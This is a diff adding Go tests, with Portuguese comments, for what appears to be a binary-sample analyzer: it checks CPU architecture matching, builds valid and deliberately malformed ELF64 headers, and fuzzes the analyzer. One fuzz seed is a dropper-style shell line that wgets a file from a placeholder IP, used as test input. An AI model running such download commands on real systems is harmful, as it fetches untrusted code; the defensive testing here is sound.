@@ -0,0 +1,91 @@
+package handlers
+
+import (
+	"debug/elf"
+	"encoding/binary"
+	"testing"
+)
+
+func TestRunsOn(t *testing.T) {
+	for _, c := range []struct {
+		arch, machine string
+		runs          bool
+	}{
+		{"x86_64", "x86_64", true},
+		{"i686", "x86_64", true},
+		{"x86_64", "i686", false},
+		{"armv7l", "aarch64", true},
+		{"aarch64", "armv7l", false},
+		{"mips", "mips", true},
+		{"mipsel", "mipsel", true},
+		{"mipsel", "mips", false},
+		{"mips", "mipsel", false},
+		{"armv7l", "x86_64", false},
+	} {
+		if got := runsOn(c.arch, c.machine); got != c.runs {
+			t.Errorf("runsOn(%s, %s) = %v, esperado %v", c.arch, c.machine, got, c.runs)
+		}
+	}
+}
+
+// elfHeader monta um cabeçalho ELF64 little-endian de x86-64 sem segmentos nem seções
+func elfHeader() []byte {
+	header := make([]byte, 64)
+	copy(header, "\x7fELF")
+	header[4], header[5], header[6] = 2, 1, 1 // ELFCLASS64, ELFDATA2LSB, EV_CURRENT
+	binary.LittleEndian.PutUint16(header[16:], uint16(elf.ET_EXEC))
+	binary.LittleEndian.PutUint16(header[18:], uint16(elf.EM_X86_64))
+	binary.LittleEndian.PutUint32(header[20:], 1)
+	binary.LittleEndian.PutUint16(header[52:], 64) // e_ehsize
+	return header
+}
+
+func TestAnalyzeMalformedELF(t *testing.T) {
+	malformed := func(change func(header []byte)) []byte {
+		header := elfHeader()
+		change(header)
+		return header
+	}
+	le := binary.LittleEndian
+
+	if got := analyze(elfHeader()); !got.elf || got.arch != "x86_64" {
+		t.Fatalf("cabeçalho válido: %+v", got)
+	}
+	for name, data := range map[string][]byte{
+		"truncado":        elfHeader()[:20],
+		"classe inválida": malformed(func(h []byte) { h[4] = 9 }),
+		"segmentos fora do arquivo": malformed(func(h []byte) {
+			le.PutUint64(h[32:], 1<<40) // e_phoff
+			le.PutUint16(h[54:], 56)    // e_phentsize
+			le.PutUint16(h[56:], 0xffff)
+		}),
+		"seções fora do arquivo": malformed(func(h []byte) {
+			le.PutUint64(h[40:], 1<<40) // e_shoff
+			le.PutUint16(h[58:], 64)    // e_shentsize
+			le.PutUint16(h[60:], 0xffff)
+		}),
+		"shstrndx inválido": malformed(func(h []byte) {
+			le.PutUint64(h[40:], 64)
+			le.PutUint16(h[58:], 64)
+			le.PutUint16(h[60:], 1)
+			le.PutUint16(h[62:], 0xfff0)
+		}),
+	} {
+		got := analyze(data)
+		if got.elf || got.fileType != "ELF, corrupted" {
+			t.Errorf("%s: analyze = %+v, esperado ELF, corrupted", name, got)
+		}
+	}
+}
+
+func FuzzAnalyze(f *testing.F) {
+	f.Add(elfHeader())
+	f.Add([]byte("\x7fELF"))
+	f.Add([]byte("#!/bin/sh\nwget http://198.51.100.7/x\n"))
+	f.Fuzz(func(t *testing.T, data []byte) {
+		got := analyze(data)
+		if got.elf && got.arch == "" {
+			t.Fatalf("ELF sem arquitetura: %+v", got)
+		}
+	})
+}